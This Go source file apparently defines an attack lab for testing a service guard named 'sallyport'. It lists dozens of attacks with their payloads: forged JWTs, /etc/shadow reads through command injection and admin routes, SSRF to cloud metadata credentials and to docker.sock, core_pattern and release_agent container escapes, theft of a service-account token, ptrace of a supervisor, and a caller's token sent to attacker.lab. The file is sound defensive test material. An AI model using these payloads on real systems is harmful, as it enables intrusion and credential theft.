package main

// attack is one row of the lab.
type attack struct {
	name  string
	what  string // what is sent, for the page
	send  send
	proof proof
	by    layer  // what must stop it in the guarded run
	wall  string // the protection, as `sallyport doctor` names it, that stops it where the walls do
	early send   // what it begins with, a minute before; nil: nothing
	quiet bool   // whether, guarded, it comes when all others are long over, so that nobody else can be blamed for it
	ends  bool   // whether, guarded, the token that it was sent with must be revoked for it
}

func stopped(name, what string, send send, proof proof, by layer, wall string) attack {
	return attack{name: name, what: what, send: send, proof: proof, by: by, wall: wall}
}

// layer is one of the three that stand around the service.
type layer string

const (
	gate   layer = "gate"
	walls  layer = "walls"
	behind layer = "gate behind"
)

// The addresses in the lab's networks, by their last number.
const (
	atAttacker    = 20
	atPartner     = 21
	atEngine      = 22
	atBilling     = 23  // another service, behind a sallyport of its own
	atBillingBare = 24  // the same without
	atMetadata    = 254 // 169.254.169.254, fd00:ec2::254
	atNames       = 53
)

// nameUring is the attack that newer engines refuse by themselves, and that then needs a container without their filter.
const nameUring = "io_uring connect, from inside"

const credential = "/latest/meta-data/iam/security-credentials/orders"

// attacks is the whole lab. Whatever goes through the gate carries a good token of the least privilege, unless the
// token itself is the attack: what stops it is then not that nobody was logged in. Attacks "from inside" run with full
// control of the service's process, by the route that evaluates an expression. The last one ends a bare container.
func attacks() []attack { return append(tokenAttacks(), serviceAttacks()...) }

func serviceAttacks() []attack {
	metadata := "http://" + linkAddress(atMetadata) + credential
	return []attack{
		stopped("forged token: no signature", "a token whose algorithm is `none`", get("/orders", unsigned), ofOrders(), gate, ""),
		stopped("forged token: key confusion", "a token signed with HS256, keyed with the text of the public RS256 key", get("/orders", confused), ofOrders(), gate, ""),
		stopped("token for another service", "a good token whose `aud` is another service", get("/orders", forAnother), ofOrders(), gate, ""),
		stopped("token of another issuer", "a token of the staging server, signed with the same key", get("/orders", fromAnother), ofOrders(), gate, ""),
		stopped("expired token", "a token that expired an hour ago", get("/orders", expired), ofOrders(), gate, ""),
		stopped("claims that nobody verified", "role and namespace written into a token whose signature is another's", get("/tenants/acme/secrets", promoted), ofOrders(), gate, ""),
		stopped("unguarded admin route reads a file", "`GET /admin/file?path=/etc/shadow`", get("/admin/file?path=/etc/shadow", reader), ofShadow(), gate, "files"),
		stopped("unguarded admin route starts a process", "`GET /admin/run?command=` and a shell command", spaced(get("/admin/run?command=while%20read%20l%3Bdo%20echo%20%24l%3Bdone%3C/etc/shadow", reader)), ofShadow(), gate, "files"),
		stopped("unguarded health route reads a file", "`GET /health/disk?path=/etc/shadow`", get("/health/disk?path=/etc/shadow", reader), ofShadow(), gate, "files"),
		stopped("path confusion into the admin route", "`/INTERNAL/keys`, `/internal/keys/`, `/internal/keys?`, `http://internal/internal/keys`",
			spellings(reader, "/INTERNAL/keys", "/internal/keys/", "/internal/keys?", "http://internal/internal/keys"), ofOrders(), gate, ""),
		stopped("WebSocket without a guard", "an upgrade of `/ws`, and a message", socket(reader), ofOrders(), gate, ""),
		stopped("microservice port without a guard", "a call over NestJS's TCP transport, from the neighbour container", microservice("orders.export"), ofOrders(), walls, "listen-loopback"),
		stopped("service on 0.0.0.0, from a neighbour", "`GET /admin/file` to the service's own port, from the neighbour container", direct("/admin/file?path=/etc/shadow"), ofShadow(), walls, "listen-loopback"),

		stopped("SSRF to the runtime's socket", "the preview's options name `/var/run/docker.sock`; create and start a container",
			escape(byPreview("http://engine", map[string]any{"socketPath": "/var/run/docker.sock"})), engineFile(), behind, "user"),
		stopped("SSRF to the runtime's TCP port", "the same, to port 2375 of the neighbour", escape(byPreview("http://"+labAddress(atEngine)+":2375", nil)), engineFile(), behind, ""),
		stopped("SSRF by DNS rebinding", "a preview of an allowed name that is looked up twice; the second answer is the metadata service", rebound("/preview/checked", map[string]any{"url": "http://news.lab" + credential}), ofMetadata(), behind, ""),
		stopped("SSRF by a name", "a preview of an allowed name, whose answer is the metadata service", preview("/preview", map[string]any{"url": "http://cloud.lab" + credential}), ofMetadata(), behind, ""),
		stopped("SSRF to the metadata service", "a preview of 169.254.169.254", preview("/preview", map[string]any{"url": metadata}), ofMetadata(), behind, ""),
		stopped("SSRF to the metadata service, IPv6", "a preview of `[fd00:ec2::254]`", preview("/preview", map[string]any{"url": "http://[" + linkAddress6(atMetadata) + "]" + credential}), ofMetadata(), behind, ""),
		stopped("SSRF by a mapped address", "a preview of `[::ffff:169.254.169.254]`", preview("/preview", map[string]any{"url": "http://[::ffff:" + linkAddress(atMetadata) + "]" + credential}), ofMetadata(), behind, ""),
		stopped("SSRF by redirect", "a preview of an allowed partner, which redirects to the metadata service", preview("/preview", map[string]any{"url": "http://partner.lab/?to=" + metadata}), ofMetadata(), behind, ""),
		stopped("the caller's token to the attacker", "a preview in the caller's name of the attacker's server", carry("/preview/as-me?url=http://attacker.lab/"), stolen(), behind, ""),

		stopped("path traversal into the host's folder", "an upload called `../host/owned`", traverse("../host/owned"), hostFile("host/owned", "the host has the file"), walls, "files"),
		stopped("path traversal over a file of root's", "an upload called `../etc/passwd`", traverse("../etc/passwd"), containerFile("/etc/passwd"), walls, "files"),
		stopped("core_pattern", "from inside, a write to a core_pattern in the mounted folder: a stand-in, see below",
			plant("/host/proc/sys/kernel/core_pattern"), hostFile("host/proc/sys/kernel/core_pattern", "the stand-in on the host holds what was written"), walls, "files"),
		stopped("release_agent", "from inside, a write to a release_agent in the mounted folder: a stand-in, see below",
			plant("/host/sys/fs/cgroup/release_agent"), hostFile("host/sys/fs/cgroup/release_agent", "the stand-in on the host holds what was written"), walls, "files"),

		stopped("command injection: a shell", "`GET /lookup?host=;` and shell commands", spaced(shell(`while read l; do echo "$l"; done </etc/shadow`)), ofShadow(), walls, "files"),
		stopped("command injection: curl", "the same, with curl to `/var/run/docker.sock`; create and start a container", spaced(escape(byCurl)), engineFile(), walls, "files"),
		stopped("a program that was written", "an upload of a static program, made executable and started", program("get tcp "+linkAddress(atMetadata)+" 80 "+credential), ofMetadata(), walls, "execute-written"),
		stopped("a raw-socket program", "the same; it sends an ICMP echo of its own making to the neighbour", program("ping "+labAddress(atAttacker)), pinged(), walls, "execute-written"),
		stopped("a raw socket, from inside", "native code loaded into the service's process; the same echo", native("ping "+labAddress(atAttacker)), pinged(), walls, "system-calls"),
		stopped(nameUring, "native code; a connection by io_uring to the metadata service", native("get uring "+linkAddress(atMetadata)+" 80 "+credential), ofMetadata(), walls, "system-calls"),
		stopped("MPTCP, from inside", "native code; an MPTCP socket to the metadata service", native("get mptcp "+linkAddress(atMetadata)+" 80 "+credential), ofMetadata(), walls, "system-calls"),
		stopped("fast open by sendto, from inside", "native code; the first packet carries the request", native("get sendto "+linkAddress(atMetadata)+" 80 "+credential), ofMetadata(), walls, "system-calls"),
		stopped("fast open by sendmsg, from inside", "the same, by sendmsg", native("get sendmsg "+linkAddress(atMetadata)+" 80 "+credential), ofMetadata(), walls, "system-calls"),
		stopped("connect, from inside", "native code; a plain connection to the metadata service", native("get tcp "+linkAddress(atMetadata)+" 80 "+credential), ofMetadata(), behind, ""),
		stopped("an address that changes while it is judged", "native code; a second thread changes the address under 300 calls of connect(2), from the allowed partner's to the metadata service's",
			native("race partner.lab "+labAddress(atPartner)+" "+linkAddress(atMetadata)+" 80 "+credential), ofMetadata(), behind, ""),
		stopped("unsetting the proxy variables", "from inside; a proxy that refuses the metadata service stands in HTTP_PROXY, and the variable is deleted", withoutProxy(metadata), unproxied(), behind, ""),

		stopped("the service account's token", "from inside, a read of `/var/run/secrets/kubernetes.io/serviceaccount/token`",
			script(`return require('node:fs').readFileSync('/var/run/secrets/kubernetes.io/serviceaccount/token', 'utf8')`),
			says("the token is in the answer", func(s *secrets) string { return s.account }), walls, "files"),
		stopped("another process's environment", "from inside, a read of the supervisor's `/proc/PID/environ`", script("return require('node:fs').readFileSync(`/proc/${process.ppid}/environ`, 'utf8')"), ofSupervisor(), walls, "supervisor-memory"),
		stopped("tracing the supervisor", "native code; ptrace(2), and a secret out of its memory", native("trace ${process.ppid} SUPERVISOR_SECRET"), ofSupervisor(), walls, "supervisor-memory"),
		stopped("killing the supervisor", "native code; SIGTERM", native("kill ${process.ppid}"), ended(), walls, "signals"),
	}
}
